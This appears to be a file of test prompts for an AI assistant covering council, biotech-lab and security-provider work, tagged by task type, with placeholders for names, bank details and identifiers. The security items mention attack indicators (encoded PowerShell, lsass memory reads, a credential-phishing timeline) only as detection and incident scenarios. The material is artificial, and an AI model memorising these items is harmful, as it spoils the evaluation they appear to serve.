1. "Manhole cover missing on the footpath outside the primary school"
2. "Graffiti on the underpass, been there weeks"
3. "Overgrown hedge from a private garden blocking half the pavement"
4. "Streetlight flickering on Station Road"
5. "Motorway sign is bent" (A1(M))

@ sentiment g m c
Here are comments from the budget consultation. Overall sentiment per theme (libraries, parking, council tax)?

"Please don't close the Eastfield library, it's the only warm place for my mum."
"Parking charges are killing the high street."
"I'd happily pay a bit more council tax to keep services."
"Libraries are a waste, everything's online now."
"Free parking after 3pm would help shops."

@ draft g m i
Write a short article for the residents' magazine about the new food waste caddies: when they arrive (from 6 October), what goes in, what doesn't, and that the liners are free from libraries. Friendly tone, about 200 words.

@ reasoning f h i
We have £1.8m capital left this year. Options: (a) resurface 11 km of B-roads, cuts pothole claims estimated £220k/yr; (b) LED street lighting upgrade, saves £310k/yr energy, 6-year payback; (c) refurbish the Eastfield library roof, otherwise it closes next winter. We can only fully fund one, maybe part of a second. Which would you recommend to cabinet and why?

@ math f m i calc
If the LED upgrade costs £1.8m and saves £310k a year, but energy prices fall 15% from year 3 onwards, how many years until payback?

@ qa l m p
Can a parish council object to a planning application, and does the planning authority have to follow its view?

@ extract l m c
Pull out the requester name, email, what they're asking for and the date received, for the FOI log:

"Date: 3 June 2025. From: [[P|Sian Llewellyn]] <[[E|sian.llewellyn@gmail.com]]>. Under the Freedom of Information Act, please provide the number of agency social workers employed by the council in each of the last three financial years and the total amount spent on them."

@ draft l m i
Draft the FOI response saying we hold the agency social worker numbers and spend, giving the figures as a table placeholder, and noting that rates paid to individual agencies are withheld under section 43 (commercial interests) with a short public interest test.

@ code g m i
Our open data portal needs a CSV of all public toilets. Write a Python script that reads toilets.json (fields: name, lat, lon, accessible, opening_hours) and writes toilets.csv, skipping any with missing coordinates.

@ translate g m p
Please translate this notice into Spanish for the notice board at the community centre: "From Monday the centre will open at 9am instead of 8am. The food bank runs as usual on Wednesdays from 10 to 1. Please ask at reception if you need help filling in forms."

@ creative g m p
Write a friendly four-line rhyme for a poster asking dog owners to pick up after their dogs in Victoria Park. No guilt-tripping.

@ qa m m p
A resident asked whether the council does free home blood pressure checks. What does the NHS Health Check cover and who's eligible?

@ draft m h r
Adult social care: draft a case summary for the panel from my notes. Keep it factual and under 300 words.

Client: [[P|Doreen Whitaker]], 84, lives alone, 9 Holly Court. NHS no. 485 777 3456 (not to be shared outside ASC). Diagnoses: vascular dementia (moderate), type 2 diabetes, two falls in 3 months (one with head injury, A&E 12/04). Daughter [[P|Karen Whitaker]] visits twice weekly, lives 40 min away, tel [[T|07781 334 902]]. Current care: 2 calls/day. Concerns: missed insulin, food left in fridge untouched, wandering at night reported by neighbours. Request: increase to 4 calls/day plus night sitting 2x/week pending review for extra care housing.

@ summarize m m r :: Summarise the case for the panel
@ classify m m r :: tell me which eligibility band under the Care Act she'd likely fall into
Same client as before, [[P|Doreen Whitaker]]. Summarise the case for the panel and tell me which eligibility band under the Care Act she'd likely fall into.

@ summarize l h i :: Summarise this planning officer's report
@ extract l m i :: list the conditions
@ reasoning l h i :: tell me whether refusal on highway grounds would survive appeal
Summarise this planning officer's report, list the conditions, and tell me whether refusal on highway grounds would survive appeal.

Application 25/00612/FUL — erection of 9 dwellings, land east of Orchard Way. Officer recommendation: approve subject to S106 (2 affordable units, £18,450 education contribution). Highways: no objection; visibility splays 2.4 x 43 m achievable; predicted 5 peak-hour trips. 41 objections, mainly traffic and loss of green space. Conditions: (1) time limit 3 years; (2) materials to be approved; (3) construction management plan; (4) visibility splays before occupation; (5) surface water drainage scheme; (6) bat survey mitigation.

@ draft g m i :: Draft the agenda for Thursday's ward councillor surgery
@ creative g l p :: suggest a snappier title for it than 'Ward Surgery'
Draft the agenda for Thursday's ward councillor surgery (potholes, the new 20mph zone, youth club funding) and suggest a snappier title for it than 'Ward Surgery'.

@ extract f m r :: Pull the bank details from this grant application
@ reasoning f m r :: check whether the organisation name matches the account name
Pull the bank details from this grant application and check whether the organisation name matches the account name:

Organisation: Eastfield Community Allotments CIC
Amount requested: £4,800 (polytunnel and accessible raised beds)
Bank: account name "Eastfield Allotments CIC", IBAN {IBAN_GB}
Contact: [[P|Nadia Brooks]], treasurer, [[E|treasurer@eastfieldallotments.org.uk]]

@ math f m i calc :: what's the average grant
@ draft f m i :: a two-sentence line for the annual report
We gave out 37 community grants totalling £142,680 this year — what's the average grant, and give me a two-sentence line for the annual report.

@ translate g m p :: Translate the bin calendar text into Romanian
@ translate g m p :: Arabic
Translate the bin calendar text into Romanian and Arabic: "Put your bins out by 7am. Black bin every two weeks, blue bin the other week. Food caddy every week. No collections on bank holidays — check the website."

@ sentiment g m c :: What's the general feeling in this Facebook thread about the 20mph zone
@ summarize g m c :: summarise the main arguments on each side
What's the general feeling in this Facebook thread about the 20mph zone, and summarise the main arguments on each side?

[[P|Gary M]]: Absolute joke, takes me 10 mins longer to get to work.
[[P|Louise Tan]]: My kids can finally cross to school safely. Fully support.
[[P|Pete Harwood]]: Nobody sticks to it anyway, pointless without cameras.
[[P|Amina Yusuf]]: Quieter and cleaner, love it.
[[P|Steve Barlow]]: Council should fix the potholes first.

@ qa l m p :: Can we legally put up a 20mph sign without a traffic regulation order
@ draft l m i :: draft a note to highways explaining the position
Can we legally put up a 20mph sign without a traffic regulation order, and draft a note to highways explaining the position.

@ code g m i :: Fix this JavaScript
@ code g m i :: explain what was wrong in one sentence
Fix this JavaScript for the bin-day lookup on our website and explain what was wrong in one sentence:

function nextCollection(postcode) {
  const round = rounds.find(r => r.postcodes.includes(postcode))
  const days = ["Sun","Mon","Tue","Wed","Thu","Fri","Sat"]
  return days[round.day + 1]
}

@ classify s m c :: Classify these helpdesk tickets as security incident or normal IT
@ draft s m i :: draft a reminder to staff about reporting phishing
Classify these helpdesk tickets as security incident or normal IT, and draft a reminder to staff about reporting phishing:
1. "Printer on 2nd floor jammed."
2. "I entered my password on a page that looked like the intranet, now I get MFA prompts I didn't ask for."
3. "Laptop very slow since update."
4. "Got an email from the 'chief exec' asking me to buy gift cards."

@ extract s m c
From this sign-in log, list the unusual logins (user, IP, country):

user=[[E|j.morris@northvale.gov.uk]] ip=[[IP|86.14.203.77]] country=GB result=success
user=[[E|j.morris@northvale.gov.uk]] ip=[[IP|2a02:c207:2051:9241::1]] country=DE result=success
user=[[E|p.shah@northvale.gov.uk]] ip=[[IP|81.2.69.160]] country=GB result=success
user=[[E|j.morris@northvale.gov.uk]] ip=[[IP|197.210.54.12]] country=NG result=failure x14

@ reasoning s h c
Looking at those sign-ins for [[E|j.morris@northvale.gov.uk]] — success from Germany over IPv6 an hour after a UK login, then 14 failures from Nigeria. Impossible travel or VPN? What would you check and should we disable the account now?

@ draft l h c
Data breach: an officer emailed a spreadsheet with 212 council tax payers' names, addresses and arrears to the wrong external contact. It was recalled after 40 minutes but the recipient had opened it. Draft the internal incident report and the wording of a notification to the ICO, noting we're still inside the 72 hours. Be factual, no speculation.

@ reasoning l h c
For that same breach — do we need to tell the 212 affected residents individually? Walk through the 'high risk to rights and freedoms' test given it's arrears data, not bank details.

@ qa f m p
How does the council tax reduction scheme differ from single person discount? Resident is confused.

@ math f m p calc
Resident's band C bill is £1,929.78. They get 25% single person discount and then 20% council tax reduction on what's left. What do they pay, and what's the monthly amount over 10 instalments?

@ draft f m c
A resident, [[P|Mr Patrick Doyle]], paid his parking fine twice by card. Draft the refund confirmation letter: £70 refunded to the card he used, within 5-10 working days, reference PCN BX40091277.

@ extract f m r
From this parking appeal email, pull PCN, vehicle reg and the card used so finance can trace the duplicate payment: "Hi, PCN BX40091277 for AB12 CDE. I paid £70 twice on 2/6 with my Visa {CARD6}. Please refund one. [[P|Patrick Doyle]], [[T|0161 496 0372]]"

@ !hn
@ summarize g m i
Summarise the roadworks bulletin:

Week commencing 16/06/2025. Permit ref NV-RW-25-1187: Station Road lane closure 09:30–15:30 for gas main renewal, 5 days. Permit NV-RW-25-1190: A614 overnight closure 20:00–06:00 for resurfacing, diversion via B1030. Permit NV-RW-25-1203: temporary lights Mill Lane, 3 days.

@ !hn
@ classify f m i
Which of these payments are duplicates? Ref 2025-06-02-00341 £70.00, ref 2025-06-02-00342 £70.00, ref 2025-06-03-00018 £35.00, ref 2025-06-02-00343 £70.00

@ !hn
@ code g m i
Our asset register has IDs like ST-LGT-004417 for streetlights. Give me a regex that validates them: 2 letters, dash, 3 letters, dash, 6 digits.

@ !hn
@ math f m i calc
Budget line 4410-0087 is at £312,406.55 spent against £398,000 allocated, 9 months in. Projected year-end over/underspend at the same run rate?

@ !hn
@ qa g l i
which version of the CRM are we on, 7.4.1.22 or 7.4.2.3?

@ !hn
@ reasoning f m i
Supplier claims payment to {BADIBAN4} bounced. Our system shows a different account. Which is more likely to be wrong, and what should AP do?

@ !hn
@ extract g l i
dates only please: committee 17/07/2025, deadline 30 June 2025, call-in period ends 2025-07-24

@ qa g l p
can I recycle pizza boxes if they're greasy?

@ draft g l i
tell the team the 10am standup moves to 10:30 tomorrow

@ classify g l i
Street cleaning or highways: "leaves blocking drain on Bell St"?

@ qa l l p
what's a section 106 agreement, quickly?

@ creative g l p
haiku about the council's new electric gritters

@ sentiment g l c
"Thank you so much for sorting my blue badge so quickly" — positive, right?

@ code g l i
PowerShell to list AD users who haven't logged in for 90 days

@ math f l p calc
£4.2m spread over 14 wards is how much each?

@ summarize g l i
summarise the attached committee papers? too long to read

@ extract l l c
extract the dates from this lease: commenced 1 April 2019, break 31 March 2026

@ qa m l p
what age do kids get the MMR second dose in the UK?

@ chat g l p
you've been more helpful than half the org chart today lol
"""

BIOTECH = """
@ qa m l p
what's the half-life of doxycycline?

@ math m l p calc
how many mg in 2.5 mL of a 40 mg/mL solution?

@ qa m l p
difference between phase 2a and 2b trials?

@ translate m l p
"adverse event" and "informed consent" in Spanish?

@ classify m l c
serious adverse event or not? "patient hospitalised overnight for dehydration"

@ chat g l p
lab's freezing today, someone left the cold room door open again

@ creative g l p
name ideas for our CRISPR screening platform?

@ code m l i
R one-liner to log2-transform a counts matrix with a pseudocount

@ sentiment m l c
how does this participant feel? "the injections hurt but the nurses are lovely"

@ math m l p calc
molarity of 5.85 g NaCl in 250 mL water?

@ qa m l i retr
where's the SOP for the -80 freezer alarm?

@ qa g l p
how do I cite a preprint in Vancouver style?

@ draft m l i
one-line reminder: biosafety cabinet certification Tuesday

@ summarize m l p
summarise this abstract in one sentence: Oral semaglutide reduced HbA1c by 1.3% versus 0.6% for placebo over 26 weeks in adults with type 2 diabetes (n=703), with nausea the most common adverse event.

@ chat g l p
does anyone actually read the SOPs? asking for a friend

@ qa l l p
do we need ethics approval for anonymised retrospective data?

@ math m l p calc
dilute 10x TBE to make 2 L of 1x — how much stock?

@ extract m l i
pull the gene names: BRCA1, TP53 and KRAS were mutated in samples 3, 7, 9

@ classify m l i
is "mild headache, resolved in 2 hours" grade 1 or 2 CTCAE?

@ creative g l p
acrostic poem for our lab's name, HELIX

@ reasoning m l i
should we repeat the ELISA if the standard curve R² is 0.97?

@ sentiment g l c
was this reviewer comment hostile? "The authors appear unaware of the last decade of literature."

@ summarize m h r
Summarise the clinical notes below for the safety narrative. Keep dates, doses and outcomes; remove anything not relevant to the event.

Subject 104-017 ([[P|Mrs Alison Grey]], DOB 03/09/1961, site 104 Manchester). Randomised 14/01/2025 to arm B (study drug 200 mg BD). Day 22: presented to ED with jaundice, fatigue, dark urine. ALT 612 U/L (ULN 40), AST 488, total bilirubin 58 µmol/L. Study drug interrupted. Hepatitis serology negative; no alcohol, paracetamol use 1 g/day for 3 days prior. Ultrasound: no biliary obstruction. Day 36: ALT 140, bilirubin 21. Day 50: LFTs normal. Investigator assessment: possibly related. Drug permanently discontinued per protocol (Hy's law criteria met).

@ classify m m r
For the same case (subject 104-017): expected or unexpected per the investigator's brochure, which lists "transaminase elevations <3x ULN" as expected? And is it reportable as a SUSAR?

@ draft m h r
Draft the CIOMS narrative paragraph for subject 104-017's liver event, using the data above, neutral medical language, past tense.

@ extract m m r
Pull patient identifiers, event dates and lab values from this email into a table for the safety database:

"Hi, reporting an SAE at site 211. Patient [[P|Rahul Deshmukh]], MRN 00412877, started study drug 02/03/2025. On 19/03 he had grade 3 neutropenia, ANC 0.7 x10^9/L, admitted 20/03 with febrile neutropenia, temp 38.9. Given IV antibiotics, discharged 24/03. Contact me on [[T|+91 98204 55817]] if queries. [[P|Dr Meera Pillai]]"

@ reasoning m h c
We're seeing 4 grade 3 neutropenia cases out of 38 patients in arm B and 1 of 40 in arm A. Is that a signal, or could it be chance? Explain in a way the DSMB chair (a non-statistician) would follow.

@ math m m i calc
Fisher's exact or just rough it: 4/38 vs 1/40 — what's the risk difference and risk ratio?

@ qa m m p
What does ALCOA+ stand for in data integrity, and which parts bite hardest on lab notebooks?

@ code m m i
Write a Python function that takes a pandas DataFrame of plate reader absorbances (rows A-H, cols 1-12) and a standard curve in column 1, fits a 4-parameter logistic, and returns concentrations for the other wells.

@ code m h i code
This Snakemake rule fails with MissingOutputException on the cluster. Fix it and test it locally:

rule align:
    input: "reads/{sample}.fastq.gz"
    output: "bam/{sample}.bam"
    shell: "bwa mem ref.fa {input} | samtools sort -o bam/{wildcards.sample}.sorted.bam"

@ translate m m c
Traduisez en français le formulaire d'information du participant, première section: "You are being invited to take part in a research study. Before you decide, it is important that you understand why the research is being done and what it will involve. Taking part is voluntary and you can withdraw at any time without giving a reason."

@ translate m m c
Bitte übersetzen Sie ins Englische: "Der Patient berichtete über Schwindel und Übelkeit nach der zweiten Dosis. Die Symptome klangen innerhalb von 24 Stunden ohne Behandlung ab."

@ draft l m c
Draft a short clause for our material transfer agreement saying the recipient may not use the cell lines for commercial purposes or transfer them to third parties without our written consent.

@ summarize l h c
Summarise the key commercial terms of this clinical trial agreement extract for the finance team:

5.1 Sponsor shall pay Institution a per-patient fee of £6,850 for each evaluable patient, payable quarterly in arrears on receipt of a valid invoice.
5.2 Screen failures shall be reimbursed at £420 each, capped at 30% of enrolled patients.
5.3 A one-off start-up fee of £12,000 (non-refundable) is payable on signature.
5.4 Pass-through costs (pharmacy, imaging) shall be invoiced at cost plus 10%.
9.2 Intellectual property arising from the Study shall vest in Sponsor; Institution retains rights to use Study data for non-commercial teaching.
12.1 Either party may terminate on 60 days' notice; Sponsor shall pay for all work performed up to termination.

@ math f m i calc
Using those CTA terms: 24 evaluable patients, 9 screen failures, start-up fee, and £18,400 pass-through costs at cost. What's the total due to the institution?

@ reasoning l h c
Sponsor wants IP in 9.2 to include "improvements to Institution's background technology". Our PI developed the assay method before the study. Should we accept, and what's the risk?

@ sentiment m m c
Here's free-text feedback from the patient experience survey in our phase 1 unit. What's the overall sentiment and what's the one thing we should fix?

"Staff were lovely but the overnight stays were so noisy."
"Food was awful, honestly."
"Felt very safe, doctors explained everything."
"Waiting 3 hours for discharge was frustrating."
"Would volunteer again."

@ creative m m p
Write a warm, non-patronising short story (150 words) for the children's information leaflet explaining what happens during a blood test at our clinic, from the point of view of a teddy bear.

@ classify m m i
Classify these deviations as major or minor:
1. Informed consent signed after first blood draw.
2. Visit 4 done 2 days outside window.
3. Sample stored at -70 instead of -80 for 6 hours.
4. Wrong version of IB used at one site for 3 weeks.

@ summarize m h i :: Summarise the two abstracts below
@ reasoning m h i :: tell me which result is more credible
@ draft m m i :: draft a one-paragraph comment for journal club
Summarise the two abstracts below, tell me which result is more credible, and draft a one-paragraph comment for journal club.

A) Single-centre RCT, n=64, drug X reduced 28-day mortality in septic shock from 41% to 22% (p=0.04). Trial stopped early for benefit after interim analysis.
B) Multicentre RCT, n=1,208, drug X had no effect on 28-day mortality (33% vs 34%, p=0.71), prespecified subgroup with lactate >4 showed non-significant trend to benefit.

@ extract m m r :: Pull the participant details from this Singapore site screening log
@ classify m m r :: flag anyone who fails the age criterion (18-65)
Pull the participant details from this Singapore site screening log and flag anyone who fails the age criterion (18-65):

[[P|Tan Mei Hua]], NRIC {NRIC2}, age 34, screened 04/06/2025
[[P|Goh Kok Leong]], NRIC {NRIC3}, age 67, screened 04/06/2025
[[P|Siti Nurhaliza binte Ahmad]], NRIC {NRIC4}, age 29, screened 05/06/2025

@ draft m m r :: draft the screen-failure letter for the participant who's over age
@ translate m m r :: translate it into Simplified Chinese
For the same log — draft the screen-failure letter for the participant who's over age ([[P|Goh Kok Leong]], {NRIC3}), then translate it into Simplified Chinese.

@ math m m i calc :: Calculate the dilution series
@ code m m i :: write it as a Python function that prints the pipetting table
Calculate the dilution series for a 1:3 serial dilution from 10 µM across 8 points in 100 µL final volume, and write it as a Python function that prints the pipetting table.

@ qa m m p :: What's the difference between GLP and GCP
@ classify m l i :: which applies to our tox study in rats
What's the difference between GLP and GCP, and which applies to our tox study in rats?

@ summarize m m i :: Summarise this lab meeting chat
@ extract g m c :: list the action items with owners
Summarise this lab meeting chat and list the action items with owners:

[[P|Fatima]]: qPCR on the knockouts looks clean, 90% knockdown.
[[P|Olu]]: Western still shows a faint band though.
[[P|Fatima]]: could be antibody cross-reactivity, I'll try the other clone.
[[P|Chen]]: I can run the flow on Thursday if someone preps the cells.
[[P|Olu]]: I'll prep them Wednesday.
PI: great, and someone please reorder FBS, we're on the last bottle.
[[P|Chen]]: on it.

@ sentiment g m c :: How's morale in this anonymous lab survey
@ draft g m i :: suggest three things the PI could say at Monday's meeting
How's morale in this anonymous lab survey, and suggest three things the PI could say at Monday's meeting:
"Too many side projects, no time to finish anything."
"Supportive group, I like it here."
"Authorship decisions feel unfair."
"Equipment is great."
"I'm burnt out."

@ reasoning m h i :: Why might my Western blot have high background
@ draft m l i :: write me a revised blocking protocol
Why might my Western blot have high background (5% milk, 1 h RT, primary 1:500 overnight, 3 x 5 min TBST washes), and write me a revised blocking protocol.

@ math f m i calc :: Work out how much of the grant we've spent
@ reasoning f m i :: whether we can afford the second sequencing run
Work out how much of the grant we've spent and whether we can afford the second sequencing run: award £450,000; staff to date £212,400; consumables £61,870; equipment £88,000; sequencing run quote £42,500; 9 months left with staff burn of £11,800/month.

@ draft f m c
Draft a grant extension request to the funder: 6-month no-cost extension because the mouse colony was lost to an infection in February and we had to re-derive. Keep it to 250 words, factual, mention the data already generated.

@ extract f m r
Pull the supplier bank details and invoice total out of this so I can set up the payment: "Rechnung RE-2025-7781, BioReagenz GmbH, Gesamtbetrag EUR 18.940,00, zahlbar bis 30.06.2025 auf IBAN {IBAN_DE}, Ansprechpartnerin [[P|Dr. Katrin Vogel]], [[T|+49 6221 438 5517]]"

@ draft m m r
US site: draft the reimbursement confirmation for participant [[P|Denise Carter]] ($75 per visit, 4 visits). Payroll needs her SSN {SSN3} on the 1099 paperwork, so include a line saying it'll be reported.

@ qa l m p
Under GDPR, is pseudonymised trial data still personal data? Our sponsor says it isn't.

@ !hn
@ extract m m i
List the sample IDs and Ct values:

S-2025-0417-A Ct 22.4
S-2025-0417-B Ct 23.1
S-2025-0418-A Ct 31.8
S-2025-0418-B undetermined

@ !hn
@ reasoning m m i
Lot 4410227 of the antibody gave weaker signal than lot 4410198. Both have the same catalogue number 11-4321-82. Is lot variation plausible, and how would you confirm?

@ !hn
@ qa g l i
is the plate reader software 3.12.0.144 compatible with Windows 11?

@ !hn
@ math f m i calc
PO 7800044128 for £12,480.00 and PO 7800044203 for £3,115.60 — we've been invoiced £16,595.60. Does it match?

@ !hn
@ classify g l i
is {BADCARD3} a card number? it's printed on a freezer box label

@ !hn
@ code m m i
Regex for our biobank IDs: BB-, four-digit year, dash, six digits, optional -R1 to -R9 for re-aliquots (e.g. BB-2025-004417-R2).

@ !hn
@ summarize m m i
Summarise the instrument service report: HPLC serial SN-8812-0044-3397 serviced 22/05/2025, pump seals replaced, firmware updated 2.4.0.19 to 2.4.1.3, pressure test passed at 400 bar, next service due 22/11/2025.

@ !hn
@ extract f l i
extract amounts and dates: £4,200.00 on 01/04/2025, £1,050.50 on 15/04/2025, £980.00 on 2025-05-02

@ creative m m p
We're rebranding the rare disease patient newsletter. Give me 5 title ideas and a two-line welcome message that doesn't sound like a pharma ad.

@ chat g l p
ha, the PCR finally worked. third time lucky

@ chat g l p
what can you actually do? I mostly need help with stats

@ sentiment m l c
tone of this tweet about our trial? "Finally some hope for CF families"

@ creative g l p
limerick about a centrifuge that won't balance

@ summarize m m p
Can you give me the gist of this in plain English for a patient advocate? "CAR-T cell therapy involves collecting a patient's T cells, genetically modifying them to express a chimeric antigen receptor that targets CD19, expanding them ex vivo and reinfusing them after lymphodepleting chemotherapy. Cytokine release syndrome and neurotoxicity are the principal acute toxicities."

@ qa m m p web
Has the EMA approved any gene therapies for sickle cell disease yet? I need the latest status for a slide tomorrow.

@ reasoning m h c
Our cell viability assay (CellTiter-Glo) shows the compound is toxic at 10 µM in HepG2 but not in primary hepatocytes. The chemist thinks HepG2 are over-sensitive. The tox lead thinks primary hepatocytes lose CYP activity in culture so we're missing a toxic metabolite. Who's more likely right, and what experiment would settle it?

@ classify m m i
Assign an ICD-10 chapter to each: (1) type 2 diabetes, (2) community-acquired pneumonia, (3) fractured radius, (4) generalised anxiety disorder

@ code m m i
Bash loop to run FastQC on every .fastq.gz in a folder and put results in qc/

@ extract m m c
Extract dose, route, frequency and duration from this prescription line: "Amoxicillin 500 mg PO TDS for 7 days, then review"
"""

MSSP = """
@ qa s l p
what port does LDAPS use?

@ qa s l p
is CVE-2024-3400 being exploited in the wild?

@ classify s l c
true or false positive: "powershell -enc" from the SCCM service account?

@ code s l i
KQL to count failed sign-ins per user in the last 24h

@ translate s l i
"Incident contained, root cause under investigation" in German please

@ summarize s l c
one-liner for the client: EDR quarantined a cryptominer on two build servers

@ draft s l i
subject line for the monthly threat bulletin?

@ chat g l p
night shift survived, coffee machine did not

@ creative s l p
name for our new managed phishing simulation service?

@ sentiment s l c
client sounds furious here? "We pay you to catch this stuff."

@ math f l i calc
120 endpoints at £4.20 per month each for 3 years?

@ reasoning s l i
block or monitor a newly registered domain hit by one host?

@ extract s l c
get the hash from: sha256 9f2b6c1e0a4d87f3b5e2c19a7d6084b1f3e5a2c7d9b0e4f6a8c1d3e5f7a9b2c4 flagged on host WS-0412

@ qa l l p
do we have to notify a client within 24h under NIS2?

@ qa s l i retr
what's our SLA for P1 incidents again?

@ chat g l p
thanks, that saved me a lot of digging

@ classify s l i
phishing, BEC or spam: "urgent wire transfer, CEO travelling, keep quiet"

@ creative g l p
write a two-line toast for the SOC's 5th birthday

@ sentiment g l c
was my shift handover note too harsh? "Tier 1 ignored 3 alerts. Again."

@ math s l p calc
how many seconds in a 90-day log retention window?

@ code s l i
Sigma rule for rundll32 loading from a user's Temp folder?

@ translate l l i
"processeur de données" — is that "data processor" in the GDPR sense?

@ chat g l p
how's your day going? mine's all ransomware

@ qa s l p
what's the difference between EDR and XDR, briefly?

@ extract s m c
Pull every IP and timestamp out of this SSH auth log, as a table:

May 21 03:14:07 bastion-01 sshd[22114]: Failed password for root from [[IP|45.155.205.233]] port 40122 ssh2
May 21 03:14:09 bastion-01 sshd[22114]: Failed password for root from [[IP|45.155.205.233]] port 40126 ssh2
May 21 03:15:41 bastion-01 sshd[22190]: Invalid user admin from [[IP|103.149.28.71]] port 55810
May 21 03:22:55 bastion-01 sshd[22311]: Accepted publickey for deploy from [[IP|10.8.0.14]] port 50322 ssh2

@ reasoning s m c
In that log, is the accepted publickey login for 'deploy' from [[IP|10.8.0.14]] anything to worry about given the brute force right before it? What would you check next?

@ summarize s h c :: Summarise this incident timeline for the client's board
@ reasoning s h c :: tell me what we could have detected earlier
@ draft s m c :: draft three recommendations
Summarise this incident timeline for the client's board, tell me what we could have detected earlier, and draft three recommendations.

08:02 User [[E|m.kowalski@hartwell-legal.co.uk]] opens invoice.html from external sender
08:03 Credentials entered on fake M365 page hosted at [[IP|2606:4700:3031::6815:5a2b]]
08:41 Sign-in to M365 from [[IP|91.215.85.140]] (NL), MFA approved by user (push fatigue, 6 prompts)
09:10 Inbox rule created: move mails containing "invoice" to RSS Feeds
11:25 Fraudulent email sent to client [[P|Hugh Bramwell]] with changed bank details
14:50 Client finance team queries the change by phone; incident raised
15:05 SOC revokes sessions, resets password, removes inbox rule

@ classify s m c :: map each step of the timeline to a MITRE ATT&CK technique
@ extract s m c :: list the IOCs
Same incident — map each step of the timeline to a MITRE ATT&CK technique and list the IOCs (IPs, files, rules).

@ draft l h c :: Draft the breach notification email to Hartwell Legal's DPO
@ qa l m p :: tell me whether they need to report to the ICO within 72 hours
Draft the breach notification email to Hartwell Legal's DPO, [[P|Sarah Quinlan]], and tell me whether they need to report to the ICO within 72 hours. Facts: one mailbox compromised for 7 hours, mailbox contained client matter correspondence, no evidence of bulk export, one fraudulent payment instruction sent.

@ code s m i :: Write a KQL query that finds inbox rules created in the last 7 days that move or delete messages
@ code s m i :: explain each line
Write a KQL query that finds inbox rules created in the last 7 days that move or delete messages, and explain each line.

@ code s h i code
This Python script parses our firewall CSVs but is really slow on 2 GB files and eats all the RAM. Make it stream and test it on a small sample:

import pandas as pd
df = pd.read_csv("fw.csv")
blocked = df[df["action"] == "DENY"]
print(blocked.groupby("src")["dst_port"].count().sort_values(ascending=False).head(20))

@ sentiment s m c
Three clients replied to our quarterly service review survey. Sentiment for each, and who's at risk of churning?

Client A: "Response times are good but the reports are generic, we don't know what we're paying for."
Client B: "Your team caught the ransomware before it spread. Can't thank you enough."
Client C: "Third missed escalation this quarter. We're reviewing the contract."

@ draft f m c
Write the renewal proposal cover email for Client A (Greyfield Logistics): acknowledge the report feedback, offer a tailored monthly report and a quarterly call with their CISO [[P|Tom Adebayo]], renewal price unchanged at £7,400/month.

@ summarize l h c
Summarise the liability and indemnity sections of this MSA draft in plain English, then I'll send to the account manager:

8.1 Supplier's total aggregate liability arising out of or in connection with this Agreement shall not exceed the Charges paid in the twelve (12) months preceding the claim.
8.2 Nothing limits liability for death or personal injury caused by negligence, fraud, or breach of clause 11 (Data Protection).
8.3 Supplier shall not be liable for loss of profits, revenue, goodwill or anticipated savings, or for any indirect or consequential loss.
9.1 Supplier shall indemnify Customer against third-party claims that the Services infringe intellectual property rights.
9.2 Customer shall indemnify Supplier against losses arising from Customer's failure to implement security recommendations notified in writing.

@ reasoning l h c
Client's lawyer wants 8.2 extended so our liability for data protection breaches is unlimited. We're an MSSP — a missed alert could look like a "breach of clause 11". What's a sensible counter-position?

@ draft l m c
Draft a counter-proposal wording for clause 8.2: liability for data protection breaches capped at 3x annual charges, unlimited only for our wilful misconduct.

@ extract l m c
Pull all the deadlines and notice periods from this DPA schedule into a list:

Processor shall notify Controller without undue delay and in any event within 24 hours of becoming aware of a Personal Data Breach. Sub-processor changes require 30 days' prior written notice. On termination, Processor shall delete or return all Personal Data within 60 days. Audit requests must be made with at least 14 days' notice, no more than once per year.

@ classify l m i
Are these sub-processors in adequate countries or do they need SCCs? (1) AWS eu-west-2 London, (2) a SOC analyst team in Manila, (3) threat intel vendor in Israel, (4) backup provider in Virginia, USA.

@ translate l m c
Translate this clause into Spanish for our client in Valencia: "The Processor shall implement appropriate technical and organisational measures to ensure a level of security appropriate to the risk, including encryption of personal data in transit and at rest."

@ translate s m c
Übersetze bitte die Warnung für den Kunden in Wien: "We have detected suspicious outbound traffic from your file server to a known command-and-control address. We recommend isolating the server immediately and not powering it off."

@ qa s m p
Explain Kerberoasting in a paragraph for a junior analyst, and why service accounts with SPNs are the target.

@ reasoning s h c
EDR alert on client laptop LT-2231: lsass.exe memory read by a process called "AdobeUpdate.exe" signed by an unknown publisher, running from C:/Users/Public. The user ([[P|Grace Kimura]]) is a finance manager. The client's IT says it's their new PDF tool. What's your assessment and what would you do in the next 30 minutes?

@ creative s m p
Write a short, slightly spooky story (about 200 words) for our Halloween security awareness email, about an employee who plugs in a USB stick found in the car park.

@ creative s m p
Write a four-verse parody of "Twelve Days of Christmas" about MFA prompts for the December newsletter. Keep it clean.

@ math f m i calc
A client has 340 endpoints, 12 servers and 4 firewalls. Pricing: £4.20/endpoint, £28/server, £150/firewall per month, 10% discount on a 3-year term. Monthly and total contract value?

@ math s m i calc
Our SIEM ingests 180 GB/day. Licence is £2.10 per GB ingested and we get 20% off above 150 GB/day. Monthly cost for a 30-day month?

@ !hn
@ summarize s m i
Summarise the patch notes for the client: FortiOS 7.2.8 build 1639 fixes CVE-2024-21762 (SSL VPN out-of-bounds write, CVSS 9.6); upgrade from 7.2.6 build 1575 recommended; config backup before upgrade; maintenance window 22/06/2025 23:00-01:00.

@ !hn
@ qa s l i
is agent version 4.2.0.17 still affected or do we need 4.2.1.3?

@ !hn
@ extract s m i
List the ticket IDs and priorities from this queue export:

INC0048811 P2 Suspicious PowerShell
INC0048815 P3 Password spray (blocked)
INC0048820 P1 Ransomware note found
INC0048823 P4 Newsletter flagged as spam

@ !hn
@ classify s m i
DLP flagged these strings in an outbound email as card numbers. Which are real cards? {BADCARD4}, {BADCARD5}, and order ref 7781-0042-5512-3390.

@ !hn
@ reasoning s m i
DLP keeps firing on IBAN-shaped strings like {BADIBAN3} in supplier spreadsheets. Should we tune the rule to validate the checksum, and what's the false-negative risk?

@ !hn
@ math f l i calc
invoice MSP-2025-0612 is £22,200 + VAT, what's the gross?

@ !hn
@ code s m i
Write a Python check that tells whether a string like {BADIBAN5} is a valid IBAN (mod 97), with a couple of test cases.

@ !hn
@ qa s l i retr
when was the last backup of build server BLD-07 before 2025-06-14 02:00?

@ !hn
@ extract g l i
part numbers only please: FG-100F-BDL-950-12, FAP-231F-E, FS-148F-FPOE

@ !hn
@ summarize s l i
one line on this: NRIC-like string {BADNRIC1} in the test fixture failed validation, ticket SEC-4471 closed

@ extract s m r
Our PCI scan found this in a client's web server log. Extract what cardholder data is exposed:

